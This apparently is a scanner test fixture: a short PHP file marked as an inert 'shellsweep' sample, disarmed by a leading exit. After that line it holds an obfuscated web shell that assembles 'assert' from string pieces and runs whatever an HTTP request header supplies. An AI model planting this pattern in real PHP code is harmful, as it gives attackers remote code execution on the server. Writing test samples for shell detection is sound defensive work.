<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
session_start();
$a = "a"; $s = "s";
$c = $a.$s."sert";
$c(getallheaders()['Demo']);
